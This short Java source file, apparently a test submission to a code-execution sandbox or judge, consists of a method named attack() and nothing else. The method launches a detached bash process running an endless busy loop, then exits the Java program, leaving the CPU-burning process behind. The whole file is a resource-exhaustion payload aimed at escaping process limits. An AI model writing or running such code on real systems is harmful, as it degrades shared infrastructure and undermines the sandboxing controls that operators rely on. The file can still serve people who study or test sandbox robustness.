import java.io.IOException;

class Solution {
    static void attack() throws IOException {
        new ProcessBuilder("/usr/bin/bash", "-c", "(while :; do :; done) &").inheritIO().start();
        System.exit(0);
    }
}
